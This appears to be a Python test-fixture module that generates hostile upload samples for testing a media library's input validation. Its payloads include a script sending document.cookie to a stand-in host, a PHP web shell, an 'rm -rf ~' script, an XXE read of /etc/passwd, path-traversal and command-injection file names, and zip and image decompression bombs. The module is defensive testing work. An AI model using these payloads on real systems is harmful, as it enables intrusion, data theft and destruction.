"""Two hundred files that somebody made to do harm, each with what must become of it."""

from __future__ import annotations

import io
import itertools
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image

from tests.media.samples import MP4, PDF, jpeg, picture, png

#: What the library under test accepts.
LIMIT_BYTES = 300_000
MOST_SIDE = 1_000
MOST_PIXELS = 500_000

SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
HTML = b"<!DOCTYPE html><html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"
SCRIPTS = {
    "html": HTML,
    "html_after_blanks": b"\n\n \t" + HTML,
    "html_with_mark": b"\xef\xbb\xbf" + HTML,
    "html_in_utf16": HTML.decode().encode("utf-16"),
    "svg": SVG,
    "svg_bomb": b"<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><svg>&b;</svg>",
    "xxe": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "javascript": b"alert(document.domain)",
    "shell": b"#!/bin/sh\nrm -rf ~\n",
    "php": b"<?php system($_GET['c']); ?>",
    "rtf": b"{\\rtf1{\\object\\objupdate}}",
    "eicar_like": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$STANDARD-TEST-FILE!",
}
EXECUTABLES = {
    "windows": b"MZ\x90\x00" + bytes(200),
    "linux": b"\x7fELF\x02\x01\x01" + bytes(200),
    "java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(200),
    "wasm": b"\x00asm\x01\x00\x00\x00",
}
NAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/etc/shadow",
    "C:\\boot.ini",
    "invoice\u202egpj.exe",
    "a\u2066b\u2069.pdf",
    "photo.jpg\x00.php",
    "line\r\nSet-Cookie: a=b.txt",
    "tab\tand\x1b[31mcolour.txt",
    '"; filename="evil.html',
    "a;b=c.txt",
    "....//....//x",
    "CON",
    "nul.txt",
    ".htaccess",
    "...",
    "",
    " ",
    "a" * 5_000 + ".txt",
    "\ud800broken.txt",
    "%2e%2e%2fetc%2fpasswd",
    "<img src=x onerror=alert(1)>.png",
    "$(touch x).txt",
    "\u0000",
]


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """One file. ``is_refused`` None: either will do, if only it is done cleanly."""

    name: str
    content: bytes
    declared: str | None = None
    filename: str | None = None
    is_refused: bool | None = None


def corpus() -> dict[str, list[Hostile]]:
    """All of them, by what is wrong with them; their names are unique."""
    groups = (_lies, _scripts, _bombs, _broken, _polyglots, _sizes, _names, _types)
    made = {group.__name__.strip("_"): list(group()) for group in groups}
    names = [one.name for group in made.values() for one in group]
    assert len(set(names)) == len(names), "each has a name of its own"
    return made


def _lies() -> Iterator[Hostile]:
    """Files that claim to be of another family than their bytes show."""
    real = {"jpeg": jpeg(9, 9), "png": png(9, 9), "pdf": PDF, "mp4": MP4, **EXECUTABLES, **SCRIPTS}
    families = {"jpeg": "image", "png": "image", "mp4": "video"}
    for (kind, content), claim in itertools.product(real.items(), ("image/gif", "video/mp4", "audio/mpeg")):
        if families.get(kind) != claim.partition("/")[0]:
            yield Hostile(name=f"{kind} as {claim}", content=content, declared=claim, is_refused=True)


def _scripts() -> Iterator[Hostile]:
    for kind, content in {**SCRIPTS, **EXECUTABLES}.items():
        yield Hostile(name=f"{kind} without a type", content=content)
        yield Hostile(name=f"{kind} as html", content=content, declared="text/html", filename="a.html")
    for claim in ("image/svg+xml", "image/svg", "image/SVG+XML; charset=utf-8"):
        yield Hostile(name=f"svg as {claim}", content=SVG, declared=claim, is_refused=True)


def _bombs() -> Iterator[Hostile]:
    for side in (MOST_SIDE + 1, 10_000, 65_535, 2**31 - 1):
        yield Hostile(name=f"png of {side} by {side}", content=png_head(side, side), is_refused=True)
        yield Hostile(name=f"png of {side} by 1", content=png_head(side, 1), is_refused=True)
    yield Hostile(name="png 10,000 px wide that is whole", content=picture("PNG", 10_000, 5, "red"), is_refused=True)
    yield Hostile(name="png with too many pixels", content=picture("PNG", 900, 900, "red"), is_refused=True)
    yield Hostile(name="jpeg 10,000 px high", content=picture("JPEG", 4, 10_000, "red"), is_refused=True)
    yield Hostile(name="webp of 16383 by 16383", content=webp_canvas(16_383, 16_383), is_refused=True)
    yield Hostile(name="webp of 2^24 by 1", content=webp_canvas(1 << 24, 1), is_refused=True)
    yield Hostile(name="gif of 65535 by 65535", content=gif_screen(65_535, 65_535), is_refused=True)
    yield Hostile(name="png whose text explodes", content=png_with_text_bomb())
    yield Hostile(name="zip that holds 200 MB", content=zip_bomb(), is_refused=False)
    yield Hostile(name="zip in a zip in a zip", content=zip_in_zip(3), declared="application/zip", is_refused=False)
    yield Hostile(name="zip with paths outside", content=zip_with_paths(), declared="application/zip", is_refused=False)


def _broken() -> Iterator[Hostile]:
    """Pictures and sound that begin as they should and end in nothing, or in noise."""
    whole = {"JPEG": "jpeg", "PNG": "png", "GIF": "gif", "WEBP": "webp"}
    for kind, short in whole.items():
        content = picture(kind, 64, 64, "blue")
        for part in (12, 30, len(content) // 2):
            yield Hostile(name=f"{short} cut at {part}", content=content[:part], declared=f"image/{short}")
        noise = content[:20] + bytes((7 * number) % 256 for number in range(2_000))
        yield Hostile(name=f"{short} that turns to noise", content=noise, declared=f"image/{short}")
    heads = {
        "ogg": b"OggS\x00\x02",
        "mp4": MP4[:24],
        "webm": b"\x1aE\xdf\xa3",
        "mp3": b"ID3\x04",
        "wav": b"RIFF\xff\xff\xff\xffWAVE",
    }
    for kind, head in heads.items():
        yield Hostile(name=f"{kind} of noise", content=head + bytes((13 * number) % 251 for number in range(3_000)))
    playlist = b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"
    yield Hostile(name="playlist as film", content=playlist, declared="video/mp4", is_refused=True)
    yield Hostile(name="playlist behind a film's head", content=MP4 + playlist, declared="video/mp4", is_refused=False)
    yield Hostile(
        name="concat script as sound",
        content=b"ffconcat version 1.0\nfile /etc/passwd\n",
        declared="audio/aac",
        is_refused=True,
    )


def _polyglots() -> Iterator[Hostile]:
    """Files that are two things at once."""
    archive = zip_with_paths()
    fronts = {"jpeg": jpeg(9, 9), "png": png(9, 9), "gif": picture("GIF", 9, 9, "red"), "pdf": PDF, "mp4": MP4}
    backs = {"html": HTML, "zip": archive, "script": b"*/=1;alert(1)//", "exe": EXECUTABLES["windows"]}
    for (front, head), (back, tail) in itertools.product(fronts.items(), backs.items()):
        yield Hostile(name=f"{front} with {back} behind", content=head + tail, is_refused=False)
        yield Hostile(name=f"{front} with {back}, as html", content=head + tail, declared="text/html")
    yield Hostile(
        name="gif that is a script", content=b"GIF89a/*" + bytes(60) + b"*/=1;alert(1)//", declared="image/gif"
    )
    yield Hostile(name="jpeg with html in its comment", content=jpeg_with_comment(HTML), is_refused=False)


def _sizes() -> Iterator[Hostile]:
    yield Hostile(name="nothing", content=b"", is_refused=True)
    yield Hostile(name="nothing as an image", content=b"", declared="image/png", is_refused=True)
    yield Hostile(name="one byte", content=b"\xff", is_refused=False)
    yield Hostile(name="one NUL", content=b"\x00", is_refused=False)
    yield Hostile(name="the limit", content=bytes(LIMIT_BYTES), is_refused=False)
    yield Hostile(name="one more than the limit", content=bytes(LIMIT_BYTES + 1), is_refused=True)
    yield Hostile(name="picture padded over the limit", content=png(9, 9) + bytes(LIMIT_BYTES), is_refused=True)


def _names() -> Iterator[Hostile]:
    for number, filename in enumerate(NAMES):
        yield Hostile(
            name=f"name {number}",
            content=b"words %d" % number,
            declared="text/plain",
            filename=filename,
            is_refused=False,
        )


def _types() -> Iterator[Hostile]:
    """Declared types that are no types."""
    wrong = [
        "a",
        "/",
        "text/",
        "/html",
        "text/html/x",
        "a" * 500 + "/b",
        "text/x\r\nX: y",
        "text/ h\ttml",
        "*/*",
        "té/xt",
    ]
    for number, declared in enumerate(wrong):
        yield Hostile(name=f"type {number}", content=HTML + b"%d" % number, declared=declared, is_refused=False)


def png_head(width: int, height: int) -> bytes:
    """A picture that says it is that large, and holds next to nothing."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")
    )


def png_with_text_bomb() -> bytes:
    bomb = b"Comment\x00\x00" + zlib.compress(bytes(80_000_000), 9)
    whole = png(9, 9)
    return whole[:33] + chunk(b"zTXt", bomb) + whole[33:]


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def webp_canvas(width: int, height: int) -> bytes:
    sizes = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    inner = picture("WEBP", 2, 2, "red")[12:]
    body = b"WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00" + sizes + inner
    return b"RIFF" + len(body).to_bytes(4, "little") + body


def gif_screen(width: int, height: int) -> bytes:
    whole = picture("GIF", 2, 2, "red")
    return whole[:6] + struct.pack("<HH", width, height) + whole[10:]


def jpeg_with_comment(comment: bytes) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, "JPEG", comment=comment)
    return out.getvalue()


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros", "w") as inside:
        for _ in range(200):
            inside.write(bytes(1_000_000))
    return out.getvalue()


def zip_in_zip(depth: int) -> bytes:
    content = b"end"
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{level}.zip", content)
        content = out.getvalue()
    return content


def zip_with_paths() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../../../tmp/escaped", b"x")
    return out.getvalue()
